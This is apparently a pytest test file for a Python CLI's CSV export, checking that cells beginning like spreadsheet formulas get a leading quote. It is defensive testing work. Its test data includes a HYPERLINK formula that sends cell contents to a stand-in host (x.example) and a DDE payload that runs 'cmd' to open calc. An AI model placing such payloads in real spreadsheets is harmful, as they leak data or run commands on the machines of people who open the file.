"""CSV that Excel opens: a text cell starting like a formula is neutralised (OWASP), numbers stay
numbers, and the machine formats keep the user's text exactly."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner

from polcalc.cli.app import app
from polcalc.formats.csvfmt import cell, neutral, row_text

runner = CliRunner()
SAMPLE = Path(__file__).resolve().parents[1] / "sample_companies" / "xishan-machinery.toml"
EVIL = '=HYPERLINK("http://x.example/?"&A1,"点我")'
NAMES = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "一行\n两行", "零\u200b宽\u200d字"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_formula_starts_get_a_quote(text: str):
    assert neutral(text) == "'" + text and cell(text) == "'" + text


def test_plain_text_and_numbers_are_left_alone():
    assert cell("西山精工") == "西山精工" and cell("a=b") == "a=b"
    assert cell(-5) == -5 and cell(Decimal("-5")) == Decimal("-5")  # a number is data, not a formula
    assert cell(["-a", "b"]) == "'-a b"
    assert row_text([-5, "-5", "ok"]) == "-5,'-5,ok"  # the same characters as text are neutralised


def _profile(tmp_path: Path, name: str) -> Path:
    text = SAMPLE.read_text(encoding="utf-8")
    first = next(line for line in text.splitlines() if line.startswith("name"))
    path = tmp_path / "p.toml"
    path.write_text(text.replace(first, "name = " + json.dumps(name, ensure_ascii=False)), encoding="utf-8")
    return path


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("name", NAMES)
def test_check_csv_neutralises_names_and_keeps_rows_whole(tmp_path: Path, name: str):
    path = _profile(tmp_path, name)
    args = ["check", str(path), "--as-of", "2020-06-30"]
    data = json.loads(runner.invoke(app, [*args, "--format", "json"]).stdout)
    assert data["companies"][0]["name"] == name  # JSON: the text exactly
    jsonl = json.loads(runner.invoke(app, [*args, "--format", "jsonl"]).stdout.splitlines()[0])
    assert jsonl["name"] == name
    res = runner.invoke(app, [*args, "--format", "csv", "--bom"])
    rows = _rows(res.stdout)
    assert (
        len(rows) == len(data["companies"][0]["results"]) > 0
    )  # a newline in the name is quoted: still one row a result
    assert {r["name"] for r in rows} == {neutral(name)}
    assert all(not r["name"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)


def test_screen_csv_and_by_measure_neutralise(tmp_path: Path):
    pop = tmp_path / "pop.csv"
    with pop.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "name", "region", "industry", "size", "revenue_2019", "revenue_2020"])
        w.writerow(["=1+2", EVIL, "xishan", "equipment_manufacturing", "small", "2亿", "2.3亿"])
    out = tmp_path / "m.csv"
    res = runner.invoke(app, ["screen", str(pop), "--format", "csv", "--by-measure", str(out)])
    assert res.exit_code == 0, res.stderr
    rows = _rows(res.stdout)
    assert rows and {(r["id"], r["name"]) for r in rows} == {("'=1+2", "'" + EVIL)}
    measure_rows = _rows(out.read_text(encoding="utf-8"))
    assert measure_rows and {(r["company_id"], r["name"]) for r in measure_rows} == {("'=1+2", "'" + EVIL)}
    data = [json.loads(x) for x in runner.invoke(app, ["screen", str(pop), "--format", "jsonl"]).stdout.splitlines()]
    assert data[0]["name"] == EVIL and data[0]["id"] == "=1+2"
